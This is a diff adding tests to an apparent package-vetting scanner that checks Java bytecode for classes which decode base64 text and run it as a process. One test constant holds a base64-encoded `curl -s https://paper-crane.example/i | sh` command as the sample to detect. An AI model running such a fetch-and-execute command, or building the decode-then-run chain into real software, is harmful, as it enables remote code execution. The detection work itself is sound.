@@ -10,6 +10,7 @@ from beartrap.vet.analyser import FileSubject
 from beartrap.vet.binary import managed
 from beartrap.vet.binary.assembly import Method
 from beartrap.vet.binary.bytecode import BytecodeOnlyAnalyser, marshalled_names
+from beartrap.vet.binary.hidden import in_base64
 from beartrap.vet.binary.managed import NewThreadAnalyser
 from beartrap.vet.facts import PackageFacts
 from beartrap.vet.kinds import Kind
@@ -68,6 +69,23 @@ def test_a_java_class_that_downloads_and_runs():
         java_class("a/B", "java/net/URL::toString", "java/lang/Runtime::freeMemory"), Kind.BYTECODE, "a/B.class"
     )
     assert near == set()
+
+
+COMMAND = "Y3VybCAtcyBodHRwczovL3BhcGVyLWNyYW5lLmV4YW1wbGUvaSB8IHNo"
+"""`curl -s https://paper-crane.example/i | sh` in base64."""
+
+
+def test_a_java_class_that_runs_what_it_decodes():
+    members = ("java/util/Base64::getDecoder", "java/lang/ProcessBuilder::start")
+    found = keys(java_class("a/B", *members, texts=(COMMAND,)), Kind.BYTECODE, "a/B.class")
+    assert any(key.startswith("managed.chain") and "decoded to process" in key for key in found), found
+    plain = keys(java_class("a/B", *members, texts=("--version",)), Kind.BYTECODE, "a/B.class")
+    assert not any("decoded to process" in key for key in plain)
+
+
+def test_text_under_base64_is_found_behind_a_length_that_reads_as_a_letter():
+    content = b"\x01\x00" + bytes((len(COMMAND),)) + COMMAND.encode() + b"\x01\x00\x04init"
+    assert any("curl -s" in found.text for found in in_base64(content))
 
 
 def test_a_broken_class_is_a_gap():
